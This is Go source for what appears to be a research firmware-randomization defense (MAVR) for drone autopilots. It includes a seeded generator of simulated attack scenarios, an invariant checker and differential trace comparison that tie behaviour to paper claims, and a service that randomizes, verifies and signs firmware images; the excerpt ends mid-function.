// source. It is deliberately not math/rand: the stream's output for a
// seed is frozen by the sampling tests, so generated Specs can never
// drift underneath the CI sweep.
type Stream struct {
	state uint64
}

// NewStream returns the deterministic draw stream for seed.
func NewStream(seed int64) *Stream {
	return &Stream{state: uint64(seed)*0x9E3779B97F4A7C15 + 0x5EED5CE4A1105EED}
}

// Uint64 returns the next 64-bit draw (SplitMix64).
func (s *Stream) Uint64() uint64 {
	s.state += 0x9E3779B97F4A7C15
	x := s.state
	x ^= x >> 30
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 27
	x *= 0x94D049BB133111EB
	return x ^ x>>31
}

// Intn returns a draw in [0, n).
func (s *Stream) Intn(n int) int {
	return int(s.Uint64() % uint64(n))
}

// pick returns one element of vals, uniformly.
func pickF(s *Stream, vals []float64) float64 { return vals[s.Intn(len(vals))] }

// Injection write-target pool: distinct data-space addresses far
// enough apart that one injection's 3-byte write can never satisfy
// another's landed check.
var addrPool = []uint16{
	firmware.AddrGyroCfg,
	firmware.AddrFreeMem + 0x400,
	firmware.AddrFreeMem + 0x420,
	firmware.AddrFreeMem + 0x440,
}

// Generate samples one scenario Spec from seed. The sampling is
// calibrated so that every generated Spec is runnable within a few
// seconds of simulated flight and satisfies the preconditions of the
// invariant library:
//
//   - boards: 40% unprotected, 40% mavr, 20% software-only;
//   - apps: testapp-weighted (the paper profiles reprogram slowly, so
//     they appear but do not dominate);
//   - at most one V1 (crash-grade) injection, always last — a dead
//     board cannot receive further payloads;
//   - injection write targets come from a distinct-address pool, and
//     every injection leaves >= 600ms of tail so silence-based
//     detection has room to trip before the verdict;
//   - V3 trampolines get StageWrites=2 with 20ms spacing and extra
//     run tail to cover the staging packets.
func Generate(seed int64) scenario.Spec {
	st := NewStream(seed)
	spec := scenario.Spec{Name: fmt.Sprintf("gen-%d", seed), Seed: seed}

	switch r := st.Intn(10); {
	case r < 4:
		spec.Board = scenario.BoardUnprotected
	case r < 8:
		spec.Board = scenario.BoardMAVR
	default:
		spec.Board = scenario.BoardSoftwareOnly
	}

	switch r := st.Intn(10); {
	case r < 7:
		spec.App = "testapp"
	case r == 7:
		spec.App = "arduplane"
	case r == 8:
		spec.App = "arducopter"
	default:
		spec.App = "ardurover"
	}

	if spec.Board == scenario.BoardMAVR {
		// Watchdog in [20ms, 60ms]: always well below the GCS silence
		// threshold (200ms), so the master detects before the ground does.
		spec.WatchdogTimeout = time.Duration(20+10*st.Intn(5)) * time.Millisecond
		spec.RandomizeEvery = 1 + st.Intn(2)
	}

	if st.Intn(2) == 0 {
		spec.Link.DropRate = pickF(st, []float64{0.02, 0.05, 0.1, 0.2, 0.3})
		spec.Link.DupRate = pickF(st, []float64{0, 0, 0.01, 0.05})
	}
	if st.Intn(10) < 3 {
		spec.Chaos.PartitionRate = pickF(st, []float64{0.1, 0.2})
		spec.Chaos.PartitionWindow = []int{4096, 8192}[st.Intn(2)]
		spec.Chaos.CorruptRate = pickF(st, []float64{0, 0.02, 0.05})
	}

	spec.Injections = sampleInjections(st)

	// Run length: a base draw in [400ms, 2s] quantized to 50ms,
	// stretched so the last injection leaves a 600ms tail (plus the V3
	// staging packets, which arrive after their injection's At).
	run := 400*time.Millisecond + time.Duration(st.Intn(33))*50*time.Millisecond
	for _, inj := range spec.Injections {
		need := inj.At + 600*time.Millisecond
		if inj.Kind == scenario.InjectV3 {
			need += 400 * time.Millisecond
		}
		if need > run {
			run = need
		}
	}
	spec.Run = run.Round(50 * time.Millisecond)
	if spec.Run < run {
		spec.Run += 50 * time.Millisecond
	}
	return spec
}

// sampleInjections draws the attack plan: count, kinds, spread-out
// send times and distinct write targets.
func sampleInjections(st *Stream) []scenario.Injection {
	var count int
	switch r := st.Intn(20); {
	case r < 4:
		count = 0
	case r < 12:
		count = 1
	case r < 17:
		count = 2
	default:
		count = 3
	}
	if count == 0 {
		return nil
	}
	at := 100*time.Millisecond + time.Duration(st.Intn(8))*50*time.Millisecond
	var out []scenario.Injection
	for i := 0; i < count; i++ {
		if i > 0 {
			at += 150*time.Millisecond + time.Duration(st.Intn(6))*50*time.Millisecond
			if out[i-1].Kind == scenario.InjectV3 {
				// Leave room for the previous trampoline's staging packets.
				at += 200 * time.Millisecond
			}
		}
		inj := scenario.Injection{
			At:    at,
			Addr:  addrPool[i%len(addrPool)],
			Value: byte(0x10 + st.Intn(0xE0)),
		}
		switch r := st.Intn(20); {
		case r < 3:
			inj.Kind = scenario.InjectV1
		case r < 9:
			inj.Kind = scenario.InjectV2
		case r < 12:
			inj.Kind = scenario.InjectV3
			// Stage into free SRAM, write into the scratch area above it;
			// index-offset both so two trampolines never collide.
			inj.Addr = 0x1600 + uint16(i)*0x40
			inj.StageAddr = firmware.AddrFreeMem + uint16(i)*0x100
			inj.StageWrites = 2
			inj.Spacing = 20 * time.Millisecond
		case r < 16:
			inj.Kind = scenario.InjectProbe
			inj.Candidate = uint32(0x200 + st.Intn(0x6000))
		default:
			inj.Kind = scenario.InjectSynth
		}
		out = append(out, inj)
		if inj.Kind == scenario.InjectV1 {
			// A crash-grade injection kills the board; later payloads
			// could never land and would poison the AttackLanded verdict.
			break
		}
	}
	return out
}
