package scengen

import (
	"mavr/internal/scenario"
)

// Differential pairing: the same Spec run on an unprotected board and
// on a MAVR board must produce traces that differ only in
// defense-attributable records. MAVR's whole value proposition is that
// it changes nothing the ground station sees during normal flight —
// same telemetry cadence, same counters, same link behaviour — so
// after stripping the records and counter fields the defense itself
// owns, the two traces must be byte-identical up to the first attack
// packet (after which behaviours legitimately diverge: that divergence
// is the paper's detection story, checked by the invariants instead).

// defense-attributable record kinds: present only because a master
// (or the software-only flash step) exists.
func defenseKind(kind string) bool {
	switch kind {
	case "boot", "randomized", "failure-detected", "reflash", "fault", "start":
		return true
	}
	return false
}

// NormalizeDifferential projects a trace onto its defense-independent
// core: defense records dropped, time rebased to application start
// (a MAVR board boots only after programming the randomized image),
// the trace truncated at the first injected packet, and the counter
// fields the defense owns (epoch, master statistics, silence maxima —
// which depend on boot timing) nulled out. The result is comparable
// byte-for-byte across board modes.
func NormalizeDifferential(recs []scenario.Record) []scenario.Record {
	// Rebase on the application-start boot record (absent on
	// unprotected boards, whose application starts at T=0).
	var t0 int64
	for _, r := range recs {
		if r.Kind == "boot" {
			t0 = r.T
		}
		if r.Kind == "inject" || r.Kind == "checkpoint" {
			break // only pre-flight boots set the time base
		}
	}
	var out []scenario.Record
	for _, r := range recs {
		if r.Kind == "inject" || r.Kind == "verdict" {
			break
		}
		if defenseKind(r.Kind) {
			continue
		}
		r.T -= t0
		if r.Counters != nil {
			c := *r.Counters
			c.Epoch = 0
			c.MaxSilence = 0
			c.MaxLinkSilence = 0
			r.Counters = &c
		}
		out = append(out, r)
	}
	return out
}

// InvariantDifferential names the differential property in Divergence
// reports.
const InvariantDifferential = "differential-defense-only"

// CompareDifferential normalizes both traces and reports the first
// divergence between their defense-independent cores, or nil when the
// defense is observation-equivalent up to the first attack packet.
func CompareDifferential(unprotected, mavr []scenario.Record) *scenario.Divergence {
	d := scenario.Compare(
		scenario.TraceString(NormalizeDifferential(unprotected)),
		scenario.TraceString(NormalizeDifferential(mavr)),
	)
	if d != nil {
		d.Invariant = InvariantDifferential
		d.Detail = "defense-independent trace cores differ (unprotected=golden side, mavr=got side)"
	}
	return d
}

// DifferentialPair runs spec on both board modes and compares the
// traces. The spec's own Board field is ignored; defense tuning fields
// (watchdog, randomize cadence) apply to the MAVR side only.
func DifferentialPair(spec scenario.Spec) (*scenario.Divergence, error) {
	u := spec
	u.Board = scenario.BoardUnprotected
	u.Name = spec.Name + "-unprotected"
	ru, err := scenario.Run(u)
	if err != nil {
		return nil, err
	}
	m := spec
	m.Board = scenario.BoardMAVR
	m.Name = spec.Name + "-mavr"
	rm, err := scenario.Run(m)
	if err != nil {
		return nil, err
	}
	return CompareDifferential(ru.Records, rm.Records), nil
}
