package scengen

import (
	"fmt"
	"time"

	"mavr/internal/scenario"
)

// An Invariant is one machine-checked property over a scenario trace.
// Applies guards the property's preconditions against the *effective*
// Spec (defaults resolved); Check returns nil when the property holds
// and a structured Divergence — the same shape golden-trace comparison
// reports — when it does not.
type Invariant struct {
	// Name is the stable identifier, reported in Divergence.Invariant.
	Name string
	// Claim is the paper claim the invariant mechanizes (EXPERIMENTS.md
	// maps these to sections).
	Claim string
	// Applies reports whether the trace of spec is in this invariant's
	// domain.
	Applies func(spec scenario.Spec) bool
	// Check evaluates the property over the trace records.
	Check func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence
}

// violation builds the structured report for invariant name, anchored
// at trace line (1-based; 0 = whole trace).
func violation(name string, line int, detail string, args ...any) *scenario.Divergence {
	return &scenario.Divergence{
		Line:      line,
		Reason:    "violated",
		Invariant: name,
		Detail:    fmt.Sprintf(detail, args...),
	}
}

// verdictOf returns the trace's final verdict record, or nil.
func verdictOf(recs []scenario.Record) *scenario.Verdict {
	if len(recs) == 0 {
		return nil
	}
	last := recs[len(recs)-1]
	if last.Kind != "verdict" {
		return nil
	}
	return last.Verdict
}

// injectionKinds collects the distinct injection kinds of a spec.
func hasKind(spec scenario.Spec, kind string) bool {
	for _, inj := range spec.Injections {
		if inj.Kind == kind {
			return true
		}
	}
	return false
}

// kindsWithin reports whether every injection kind is in allowed.
func kindsWithin(spec scenario.Spec, allowed ...string) bool {
	for _, inj := range spec.Injections {
		ok := false
		for _, a := range allowed {
			if inj.Kind == a {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	return true
}

// watchdogOf is the effective master watchdog timeout.
func watchdogOf(spec scenario.Spec) time.Duration {
	if spec.WatchdogTimeout > 0 {
		return spec.WatchdogTimeout
	}
	return 50 * time.Millisecond
}

// quiet reports whether the spec runs a perfect downlink.
func quiet(spec scenario.Spec) bool {
	return !spec.Link.Active() && !spec.Chaos.Active()
}

// Invariants returns the full invariant library, in evaluation order.
func Invariants() []Invariant {
	return []Invariant{
		{
			Name:    "trace-well-formed",
			Claim:   "every run yields a complete canonical trace: start first, verdict last, time monotone",
			Applies: func(scenario.Spec) bool { return true },
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				if len(recs) == 0 {
					return violation("trace-well-formed", 0, "empty trace")
				}
				if recs[0].Kind != "start" {
					return violation("trace-well-formed", 1, "first record is %q, not start", recs[0].Kind)
				}
				if v := verdictOf(recs); v == nil {
					return violation("trace-well-formed", len(recs), "last record is %q, not a verdict", recs[len(recs)-1].Kind)
				}
				for i := 1; i < len(recs); i++ {
					if recs[i].T < recs[i-1].T {
						return violation("trace-well-formed", i+1, "time went backwards: %d after %d", recs[i].T, recs[i-1].T)
					}
				}
				return nil
			},
		},
		{
			Name:  "stealthy-attack-invisible",
			Claim: "§IV-D/§VII-A: clean-return attacks on an unprotected board land and leave no compromise evidence",
			Applies: func(spec scenario.Spec) bool {
				return spec.Board == scenario.BoardUnprotected && len(spec.Injections) > 0 &&
					kindsWithin(spec, scenario.InjectV2, scenario.InjectV3) && quiet(spec)
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				v := verdictOf(recs)
				switch {
				case v == nil:
					return violation("stealthy-attack-invisible", len(recs), "no verdict")
				case !v.AttackLanded:
					return violation("stealthy-attack-invisible", len(recs), "stealthy chain did not land on the unprotected board")
				case !v.BoardAlive:
					return violation("stealthy-attack-invisible", len(recs), "stealthy chain crashed the board")
				case v.Compromised:
					return violation("stealthy-attack-invisible", len(recs), "GCS flagged a compromise for a clean-return attack")
				}
				return nil
			},
		},
		{
			Name:  "stealthy-never-silent",
			Claim: "§IV-D: a clean-return V2 never trips the VehicleSilent alarm, even behind a lossy link",
			Applies: func(spec scenario.Spec) bool {
				return spec.Board == scenario.BoardUnprotected && hasKind(spec, scenario.InjectV2) &&
					kindsWithin(spec, scenario.InjectV2, scenario.InjectV3) && spec.Chaos.PartitionRate == 0
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				if v := verdictOf(recs); v != nil && v.VehicleSilent {
					return violation("stealthy-never-silent", len(recs), "VehicleSilent tripped on a clean-return attack")
				}
				return nil
			},
		},
		{
			Name:  "crash-visible",
			Claim: "§IV-C/§VII-A: the crash-grade V1 kills the board and the silence is detected",
			Applies: func(spec scenario.Spec) bool {
				if spec.Board != scenario.BoardUnprotected || spec.Chaos.PartitionRate != 0 {
					return false
				}
				for _, inj := range spec.Injections {
					if inj.Kind == scenario.InjectV1 &&
						inj.At+spec.SilenceThreshold+300*time.Millisecond <= spec.Run {
						return true
					}
				}
				return false
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				v := verdictOf(recs)
				switch {
				case v == nil:
					return violation("crash-visible", len(recs), "no verdict")
				case v.BoardAlive:
					return violation("crash-visible", len(recs), "board survived a V1 crash chain")
				case !v.VehicleSilent:
					return violation("crash-visible", len(recs), "crashed board did not trip VehicleSilent")
				case !v.Compromised:
					return violation("crash-visible", len(recs), "crashed board did not yield a compromise verdict")
				}
				return nil
			},
		},
		{
			Name:  "stale-chain-neutralized",
			Claim: "§V/§VIII-A: a chain built against the stock layout never reaches its payload on a randomized board",
			Applies: func(spec scenario.Spec) bool {
				return spec.Board != scenario.BoardUnprotected && len(spec.Injections) > 0 &&
					!kindsWithin(spec, scenario.InjectProbe)
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				if v := verdictOf(recs); v != nil && v.AttackLanded {
					return violation("stale-chain-neutralized", len(recs), "stale chain landed its write on board=%s", spec.Board)
				}
				return nil
			},
		},
		{
			Name:  "silence-begets-detection",
			Claim: "§V-A2: whenever the ground station saw fatal silence, the MAVR watchdog (an order of magnitude faster) detected it too",
			Applies: func(spec scenario.Spec) bool {
				return spec.Board == scenario.BoardMAVR && spec.Chaos.PartitionRate == 0 &&
					watchdogOf(spec) < spec.SilenceThreshold
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				v := verdictOf(recs)
				if v == nil || !v.VehicleSilent {
					return nil
				}
				if v.FailuresDetected == 0 {
					return violation("silence-begets-detection", len(recs), "GCS saw %dms of silence but the master detected nothing", v.Final.MaxSilence/1e6)
				}
				if !v.Compromised {
					return violation("silence-begets-detection", len(recs), "fatal silence without a compromise verdict")
				}
				return nil
			},
		},
		{
			Name:  "recovery-follows-detection",
			Claim: "§V-C/§VII-B: every detected failure is answered by an in-flight reflash within the programming time",
			Applies: func(spec scenario.Spec) bool {
				// The reflash window is app-size-dependent; only the small
				// test application reprograms (553ms) fast enough to demand
				// recovery inside a short scenario.
				return spec.Board == scenario.BoardMAVR && spec.App == "testapp"
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				end := recs[len(recs)-1].T
				for i, r := range recs {
					if r.Kind != "failure-detected" {
						continue
					}
					if end-r.T < int64(800*time.Millisecond) {
						continue // not enough tail to demand the reflash
					}
					reflashed := false
					for _, rr := range recs[i:] {
						if rr.Kind == "reflash" && rr.T <= r.T+int64(700*time.Millisecond) {
							reflashed = true
							break
						}
					}
					if !reflashed {
						return violation("recovery-follows-detection", i+1, "failure detected at %dms never reflashed", r.T/1e6)
					}
				}
				return nil
			},
		},
		{
			Name:  "pure-link-faults-blameless",
			Claim: "chaos conformance: link impairment alone never produces compromise evidence or a vehicle-side verdict",
			Applies: func(spec scenario.Spec) bool {
				return len(spec.Injections) == 0 && (spec.Link.Active() || spec.Chaos.Active())
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				v := verdictOf(recs)
				switch {
				case v == nil:
					return violation("pure-link-faults-blameless", len(recs), "no verdict")
				case !v.BoardAlive:
					return violation("pure-link-faults-blameless", len(recs), "board died under pure link faults")
				case v.Compromised:
					return violation("pure-link-faults-blameless", len(recs), "link faults produced a compromise verdict")
				case v.VehicleSilent:
					return violation("pure-link-faults-blameless", len(recs), "link faults were booked as vehicle silence")
				case v.Health == "vehicle-dead" || v.Health == "compromised":
					return violation("pure-link-faults-blameless", len(recs), "graded health %q blames the vehicle for link faults", v.Health)
				case v.Final.Garbage > 0:
					return violation("pure-link-faults-blameless", len(recs), "%d garbage bytes from a faulty but uncompromised link", v.Final.Garbage)
				}
				return nil
			},
		},
		{
			Name:  "quiet-sky-clean",
			Claim: "baseline: no attack and no impairment yields a spotless verdict and zero anomaly counters",
			Applies: func(spec scenario.Spec) bool {
				return len(spec.Injections) == 0 && quiet(spec)
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				v := verdictOf(recs)
				if v == nil {
					return violation("quiet-sky-clean", len(recs), "no verdict")
				}
				if v.Compromised || v.VehicleSilent || v.AttackLanded || !v.BoardAlive {
					return violation("quiet-sky-clean", len(recs), "unclean verdict on a quiet run: %+v", *v)
				}
				f := v.Final
				if f.SeqGaps != 0 || f.Garbage != 0 || f.FrameErrors != 0 || f.LinkGaps != 0 ||
					f.CorruptDrops != 0 || f.LinkOutages != 0 {
					return violation("quiet-sky-clean", len(recs), "anomaly counters nonzero on a quiet run: %+v", f)
				}
				return nil
			},
		},
		{
			Name:    "epoch-accounting",
			Claim:   "§V-C: the randomization epoch only advances, never appears without a master, and MAVR boots randomized",
			Applies: func(scenario.Spec) bool { return true },
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				prev := 0
				for i, r := range recs {
					var e int
					switch {
					case r.Kind == "checkpoint" && r.Counters != nil:
						e = r.Counters.Epoch
					case r.Kind == "verdict" && r.Verdict != nil:
						e = r.Verdict.Final.Epoch
					default:
						continue
					}
					if spec.Board != scenario.BoardMAVR && e != 0 {
						return violation("epoch-accounting", i+1, "epoch %d on a masterless board", e)
					}
					if e < prev {
						return violation("epoch-accounting", i+1, "epoch regressed %d -> %d", prev, e)
					}
					prev = e
				}
				if spec.Board == scenario.BoardMAVR && prev < 1 {
					return violation("epoch-accounting", len(recs), "MAVR board finished at epoch %d, want >= 1", prev)
				}
				return nil
			},
		},
		{
			Name:    "counters-monotone",
			Claim:   "trace soundness: every cumulative monitor counter is non-decreasing across checkpoints",
			Applies: func(scenario.Spec) bool { return true },
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				var prev *scenario.Counters
				for i, r := range recs {
					var c *scenario.Counters
					switch {
					case r.Kind == "checkpoint" && r.Counters != nil:
						c = r.Counters
					case r.Kind == "verdict" && r.Verdict != nil:
						c = &r.Verdict.Final
					default:
						continue
					}
					if prev != nil {
						if field, ok := counterRegression(prev, c); ok {
							return violation("counters-monotone", i+1, "counter %s regressed", field)
						}
					}
					prev = c
				}
				return nil
			},
		},
		{
			Name:  "injections-recorded",
			Claim: "trace soundness: every planned injection appears as an inject record carrying its payload digest",
			Applies: func(spec scenario.Spec) bool {
				return len(spec.Injections) > 0
			},
			Check: func(spec scenario.Spec, recs []scenario.Record) *scenario.Divergence {
				n := 0
				for i, r := range recs {
					if r.Kind != "inject" {
						continue
					}
					n++
					if r.Payload == "" || r.N == 0 {
						return violation("injections-recorded", i+1, "inject record without payload digest or size")
					}
				}
				// Recovery reprogramming is accounted in sim time: a
				// reflash of a heavy image can consume the remaining
				// run budget, so later injections legitimately never
				// fire. A reflash implies at least one injection
				// already landed on the wire, so the floor drops to 1.
				want := len(spec.Injections)
				for _, r := range recs {
					if r.Kind == "reflash" {
						want = 1
						break
					}
				}
				if n < want {
					return violation("injections-recorded", len(recs), "%d inject records for %d planned injections", n, len(spec.Injections))
				}
				return nil
			},
		},
	}
}

// counterRegression reports the first cumulative counter of cur that
// is smaller than in prev.
func counterRegression(prev, cur *scenario.Counters) (string, bool) {
	checks := []struct {
		name       string
		prev, curv int64
	}{
		{"pulses", int64(prev.Pulses), int64(cur.Pulses)},
		{"seqGaps", int64(prev.SeqGaps), int64(cur.SeqGaps)},
		{"linkGaps", int64(prev.LinkGaps), int64(cur.LinkGaps)},
		{"garbage", int64(prev.Garbage), int64(cur.Garbage)},
		{"heartbeats", int64(prev.Heartbeats), int64(cur.Heartbeats)},
		{"frameErrors", int64(prev.FrameErrors), int64(cur.FrameErrors)},
		{"rawImus", int64(prev.RawIMUs), int64(cur.RawIMUs)},
		{"paramEchoes", int64(prev.ParamEchoes), int64(cur.ParamEchoes)},
		{"maxSilenceNs", prev.MaxSilence, cur.MaxSilence},
		{"linkOutages", int64(prev.LinkOutages), int64(cur.LinkOutages)},
		{"corruptDrops", int64(prev.CorruptDrops), int64(cur.CorruptDrops)},
		{"maxLinkSilenceNs", prev.MaxLinkSilence, cur.MaxLinkSilence},
	}
	for _, c := range checks {
		if c.curv < c.prev {
			return c.name, true
		}
	}
	return "", false
}

// CheckAll evaluates every applicable invariant against the trace and
// returns the violations in library order (empty = all hold).
func CheckAll(spec scenario.Spec, recs []scenario.Record) []*scenario.Divergence {
	eff := spec.Effective()
	var out []*scenario.Divergence
	for _, inv := range Invariants() {
		if !inv.Applies(eff) {
			continue
		}
		if d := inv.Check(eff, recs); d != nil {
			out = append(out, d)
		}
	}
	return out
}
