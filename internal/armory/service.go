package armory

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/fnv"
	"math/rand"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"mavr/internal/core"
	"mavr/internal/staticverify"
)

// Config sizes and shapes a Service.
type Config struct {
	// Workers is the randomization worker-pool size (default 4). The
	// pool bounds CPU concurrency; submissions beyond it queue.
	Workers int
	// QueueDepth bounds the submission queue (default 4*Workers);
	// Randomize blocks when it is full — backpressure, not load
	// shedding.
	QueueDepth int
	// Secret is the HMAC artifact-signing key (default DefaultSecret).
	Secret []byte
	// Opts are the static-verification options applied to every
	// artifact (nil: staticverify.DefaultOptions — full verification
	// including the residual gadget audit).
	Opts *staticverify.Options
	// MaxBases bounds the content-addressed base cache (default 64,
	// FIFO eviction by submission digest).
	MaxBases int
	// MaxReports bounds the stored verification reports served by
	// GET /report (default 4096, FIFO).
	MaxReports int
	// MaxAttempts bounds the ledger redraw chain per request (default
	// 64). With n! permutations a genuine collision is astronomically
	// unlikely; the bound exists so a pathological base (one block)
	// fails loudly instead of spinning.
	MaxAttempts int
}

func (c Config) withDefaults() Config {
	if c.Workers <= 0 {
		c.Workers = 4
	}
	if c.QueueDepth <= 0 {
		c.QueueDepth = 4 * c.Workers
	}
	if c.Secret == nil {
		c.Secret = DefaultSecret
	}
	if c.Opts == nil {
		opts := staticverify.DefaultOptions()
		// Armory-managed verification resolves indirect control flow by
		// default: per-base VSA is computed once and translated across
		// the fleet's permutations, so the marginal per-artifact cost is
		// a rendering pass.
		opts.VSA = true
		c.Opts = &opts
	}
	if c.MaxBases <= 0 {
		c.MaxBases = 64
	}
	if c.MaxReports <= 0 {
		c.MaxReports = 4096
	}
	if c.MaxAttempts <= 0 {
		c.MaxAttempts = 64
	}
	return c
}

// Request is one provisioning submission: randomize this base image
// for this vehicle at this re-randomization epoch.
type Request struct {
	// Image is the base firmware: an ELF executable or the
	// prepended-HEX external-flash format (core.LoadImage).
	Image []byte
	// Vehicle is the fleet-unique vehicle identity.
	Vehicle string
	// Epoch distinguishes successive provisionings of the same vehicle
	// (0 on first flash, incremented per re-randomization). The pair
	// (Vehicle, Epoch) is the ledger holder: replays are idempotent,
	// new epochs get fresh permutations.
	Epoch uint64
}

// Artifact is one signed, verified randomization outcome.
type Artifact struct {
	// BaseDigest is the canonical content address of the base image
	// (SHA-256 of the flat flash image, container-independent).
	BaseDigest string `json:"base_digest"`
	// ArtifactDigest is the SHA-256 of Image.
	ArtifactDigest string `json:"artifact_digest"`
	Vehicle        string `json:"vehicle"`
	Epoch          uint64 `json:"epoch"`
	// PermDigest is the SHA-256 of the applied permutation — the
	// ledger's uniqueness key.
	PermDigest string `json:"perm_digest"`
	// Perm is the applied permutation (the master knows its own layout;
	// the readout fuse keeps it from everyone else).
	Perm []int `json:"perm"`
	// Attempts counts ledger redraws before a free permutation was
	// found (1 = first draw was free or re-issued).
	Attempts int `json:"attempts"`
	// CacheHit says the base image was already preprocessed.
	CacheHit bool `json:"cache_hit"`
	// Reissued says this holder had already been issued this exact
	// artifact (request replay).
	Reissued bool `json:"reissued"`
	// Signature is Sign(secret, BaseDigest, PermDigest, ArtifactDigest).
	Signature string `json:"signature"`
	// Image is the randomized flash image (base64 in JSON).
	Image []byte `json:"artifact"`
	// Report is the full static-verification report.
	Report *staticverify.Report `json:"report"`
}

// RequestError is a structured rejection: a client error with an HTTP
// status and, when verification failed, the findings that condemned
// the image.
type RequestError struct {
	Status   int // suggested HTTP status
	Msg      string
	Findings []staticverify.Finding
}

func (e *RequestError) Error() string {
	if len(e.Findings) > 0 {
		return fmt.Sprintf("%s (%d findings, first: %s)", e.Msg, len(e.Findings), e.Findings[0])
	}
	return e.Msg
}

// ErrClosed is returned by Randomize after Close.
var ErrClosed = errors.New("armory: service closed")

// Stats is a point-in-time snapshot of the service counters.
type Stats struct {
	Submitted         uint64
	Completed         uint64
	Failed            uint64
	CacheHits         uint64
	CacheMisses       uint64
	CachedBases       int
	LedgerBases       int
	LedgerConflicts   uint64
	Reissues          uint64
	VerifyRejections uint64
	FastVerifies     uint64 // staticverify.Base fast-path verifications
	FallbackVerifies uint64 // cold/stateless verifications
	// VSASites / VSAResolvedSites sum, over the cached bases analyzed
	// with value-set analysis, the indirect transfer sites found and
	// the subset resolved to a proven target set.
	VSASites         uint64
	VSAResolvedSites uint64
	ArtifactsSigned  uint64
	QueueHighWater   uint64 // deepest the submission queue has been
}

// Service is the armory: a worker pool running the randomize → verify
// → sign pipeline over shared cache and ledger state. Safe for
// concurrent use; Randomize may be called from any goroutine.
type Service struct {
	cfg     Config
	cache   *baseCache
	ledger  *Ledger
	reports *reportStore

	jobs    chan job
	wg      sync.WaitGroup
	closeMu sync.Mutex
	closed  bool

	submitted        atomic.Uint64
	completed        atomic.Uint64
	failed           atomic.Uint64
	ledgerConflicts  atomic.Uint64
	reissues         atomic.Uint64
	verifyRejections atomic.Uint64
	signed           atomic.Uint64
	queueHigh        atomic.Uint64
}

type job struct {
	req  Request
	resp chan result
}

type result struct {
	art *Artifact
	err error
}

// New builds a Service and starts its worker pool. Call Close to drain.
func New(cfg Config) *Service {
	cfg = cfg.withDefaults()
	s := &Service{
		cfg:     cfg,
		cache:   newBaseCache(cfg.MaxBases),
		ledger:  NewLedger(),
		reports: newReportStore(cfg.MaxReports),
		jobs:    make(chan job, cfg.QueueDepth),
	}
	for i := 0; i < cfg.Workers; i++ {
		s.wg.Add(1)
		go s.worker()
	}
	return s
}

// Close stops accepting submissions and drains the workers. Queued
// submissions complete.
func (s *Service) Close() {
	s.closeMu.Lock()
	if !s.closed {
		s.closed = true
		close(s.jobs)
	}
	s.closeMu.Unlock()
	s.wg.Wait()
}

// Ledger exposes the fleet permutation ledger (read-mostly: soak tools
// and tests assert its invariants).
func (s *Service) Ledger() *Ledger { return s.ledger }

// Randomize runs one request through the pipeline, blocking until a
// worker completes it.
func (s *Service) Randomize(req Request) (*Artifact, error) {
	j := job{req: req, resp: make(chan result, 1)}
	s.closeMu.Lock()
	if s.closed {
		s.closeMu.Unlock()
		return nil, ErrClosed
	}
	s.submitted.Add(1)
	if depth := uint64(len(s.jobs) + 1); depth > s.queueHigh.Load() {
		s.queueHigh.Store(depth)
	}
	s.jobs <- j
	s.closeMu.Unlock()
	r := <-j.resp
	return r.art, r.err
}

func (s *Service) worker() {
	defer s.wg.Done()
	for j := range s.jobs {
		art, err := s.process(j.req)
		if err != nil {
			s.failed.Add(1)
		} else {
			s.completed.Add(1)
		}
		j.resp <- result{art: art, err: err}
	}
}

// process is the pipeline body: preprocess (cached) → permute (ledger)
// → patch → verify (cached base) → sign.
func (s *Service) process(req Request) (*Artifact, error) {
	if len(req.Image) == 0 {
		return nil, &RequestError{Status: 400, Msg: "empty base image"}
	}
	if req.Vehicle == "" {
		return nil, &RequestError{Status: 400, Msg: "missing vehicle id"}
	}

	entry, cacheHit := s.cache.get(req.Image, *s.cfg.Opts)
	if entry.err != nil {
		return nil, &RequestError{Status: 422, Msg: fmt.Sprintf("unusable base image: %v", entry.err)}
	}
	pre, base := entry.pre, entry.base
	baseDigest := entry.canonical
	holder := Holder{Vehicle: req.Vehicle, Epoch: req.Epoch}

	for attempt := 0; attempt < s.cfg.MaxAttempts; attempt++ {
		seed := deriveSeed(baseDigest, req.Vehicle, req.Epoch, attempt)
		perm := core.Permutation(rand.New(rand.NewSource(seed)), len(pre.Blocks))
		pd := PermDigest(perm)

		claim := s.ledger.Claim(baseDigest, pd, holder)
		if claim == Conflict {
			s.ledgerConflicts.Add(1)
			continue
		}
		if claim == Reissued {
			s.reissues.Add(1)
		}

		r, err := core.Randomize(pre, perm)
		if err != nil {
			s.ledger.Release(baseDigest, pd, holder)
			return nil, &RequestError{Status: 422, Msg: fmt.Sprintf("randomization failed: %v", err)}
		}
		rep := base.Verify(r)
		if !rep.OK() {
			s.ledger.Release(baseDigest, pd, holder)
			s.verifyRejections.Add(1)
			return nil, &RequestError{
				Status:   422,
				Msg:      fmt.Sprintf("static verification rejected the randomized image (%d errors)", rep.Errors()),
				Findings: rep.Findings,
			}
		}

		artifactDigest := Digest(r.Image)
		art := &Artifact{
			BaseDigest:     baseDigest,
			ArtifactDigest: artifactDigest,
			Vehicle:        req.Vehicle,
			Epoch:          req.Epoch,
			PermDigest:     pd,
			Perm:           perm,
			Attempts:       attempt + 1,
			CacheHit:       cacheHit,
			Reissued:       claim == Reissued,
			Signature:      Sign(s.cfg.Secret, baseDigest, pd, artifactDigest),
			Image:          r.Image,
			Report:         rep,
		}
		s.signed.Add(1)
		s.reports.put(artifactDigest, &StoredReport{
			Kind:           "artifact",
			BaseDigest:     baseDigest,
			ArtifactDigest: artifactDigest,
			Vehicle:        req.Vehicle,
